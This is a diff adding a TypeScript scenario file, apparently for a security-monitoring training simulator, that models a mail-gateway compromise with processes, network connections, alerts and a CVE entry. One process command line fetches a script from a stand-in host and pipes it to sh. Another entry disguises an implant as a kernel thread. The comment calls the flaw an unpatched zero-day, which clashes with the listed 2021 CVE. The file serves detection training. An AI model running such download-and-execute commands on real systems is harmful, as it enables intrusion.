@@ -1,0 +1,111 @@
+import type { Pack } from './model.ts';
+import { alert, asked, connected, host, ran, wrote } from './write.ts';
+
+/** The mail gateway's web interface runs commands nobody should be able to send. No patch exists yet. */
+const WEB = 'www-data';
+
+export const zeroDay: Pack = {
+  name: 'zero-day',
+  title: { en: 'An unknown weakness in a mail gateway', ja: 'メールゲートウェイの未知の脆弱性' },
+  hosts: [
+    host({
+      key: 'gateway',
+      name: 'MAILGW02',
+      kind: 'server',
+      os: 'linux',
+      osVersion: 'Ubuntu 22.04',
+      domain: '',
+      address: '192.0.2.25',
+      externalAddress: '203.0.113.25',
+      group: 'DMZサーバー',
+      policy: 'サーバー(検知のみ)',
+      user: 'root',
+    }),
+  ],
+  processes: [
+    ran({
+      key: 'web',
+      host: 'gateway',
+      parent: null,
+      at: -2_000_000,
+      pid: 1201,
+      image: '/opt/mailgw/bin/webui',
+      commandLine: '/opt/mailgw/bin/webui --workers 8',
+      user: WEB,
+    }),
+    ran({
+      key: 'shell',
+      host: 'gateway',
+      parent: 'web',
+      at: -3,
+      endsAt: 60,
+      pid: 30_211,
+      image: '/bin/sh',
+      commandLine: 'sh -c id;uname -a;curl -s http://198.51.100.66/x|sh',
+      user: WEB,
+    }),
+    ran({
+      key: 'curl',
+      host: 'gateway',
+      parent: 'shell',
+      at: -2,
+      endsAt: 2,
+      pid: 30_214,
+      image: '/usr/bin/curl',
+      commandLine: 'curl -s http://198.51.100.66/x',
+      user: WEB,
+    }),
+    ran({
+      key: 'implant',
+      host: 'gateway',
+      parent: 'shell',
+      at: 4,
+      pid: 30_220,
+      image: '/dev/shm/.k',
+      commandLine: '[kworker/2:1]',
+      user: WEB,
+      signer: null,
+    }),
+  ],
+  acts: [
+    connected(-1, 'curl', '198.51.100.66:80'),
+    wrote(3, 'shell', '/dev/shm/.k'),
+    asked(6, 'implant', 'ns1.telemetry-sync.example', '198.51.100.67'),
+    connected(8, 'implant', '198.51.100.67:443', 'ns1.telemetry-sync.example'),
+    wrote(15, 'implant', '/opt/mailgw/www/static/fonts/a.php'),
+  ],
+  logons: [],
+  alerts: [
+    alert({
+      key: 'web-shell-command',
+      at: 0,
+      process: 'shell',
+      title: 'Web server started a shell that downloads',
+      description: 'A process of the web interface started a shell, which fetched and ran a script.',
+      tactic: 'TA0001 Initial Access',
+      technique: 'T1190 Exploit Public-Facing Application',
+      severity: 'critical',
+    }),
+    alert({
+      key: 'hidden-process',
+      at: 7,
+      process: 'implant',
+      title: 'Program in memory-backed storage under a kernel name',
+      description: 'A program was started from /dev/shm with a name in brackets, as kernel threads have.',
+      tactic: 'TA0005 Defense Evasion',
+      technique: 'T1036.004 Masquerade Task or Service',
+      kind: 'behaviour',
+      severity: 'high',
+    }),
+  ],
+  vulnerabilities: [
+    {
+      host: 'gateway',
+      cve: 'CVE-2021-44228',
+      product: 'Log library of the mail gateway',
+      version: '2.14.1',
+      score: 10,
+      exploited: true,
+    },
+  ],
+};
